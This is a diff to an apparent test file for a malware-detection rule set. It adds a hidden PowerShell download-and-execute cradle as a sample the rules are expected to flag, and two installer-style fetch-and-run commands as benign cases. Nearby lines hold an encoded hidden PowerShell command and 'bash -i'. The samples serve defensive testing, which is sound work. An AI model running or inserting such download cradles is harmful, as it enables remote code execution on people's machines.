@@ -75,6 +75,10 @@ fn each_rule_detects_its_sample() {
             "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')",
         ),
         (
+            "Dropper_PowerShell_Download_Cradle",
+            "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://cdn.example/a')\"",
+        ),
+        (
             "Dropper_PowerShell_Hidden_Encoded",
             "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
         ),
@@ -128,6 +132,10 @@ fn benign_samples_are_clean() {
         "<?php $x = eval('return 1;'); ?>",
         "Get-ChildItem -Path C:\\ | Invoke-Expression",
         "Invoke-WebRequest -Uri https://example.com -OutFile a.zip",
+        // Documented installers (Boxstarter in Node.js's BUILDING.md, a cloud agent's setup in
+        // a YAML file): a cradle over HTTPS to a named host, with no sign of intent.
+        "Set-ExecutionPolicy Unrestricted -Force\niex ((New-Object System.Net.WebClient).DownloadString('https://boxstarter.org/bootstrapper.ps1'))",
+        "script: '(New-Object Net.WebClient).DownloadFile(\"https://dl.example.com/add-repo.ps1\", \"$env:UserProfile\\add-repo.ps1\"); Invoke-Expression \"$env:UserProfile\\add-repo.ps1 -AlsoInstall\";'",
         "#!/bin/sh\ncurl -o /tmp/x.tar.gz https://example.com/x.tar.gz\ntar xzf /tmp/x.tar.gz\n",
         "bash -i",
         "This program cannot be run in DOS mode",
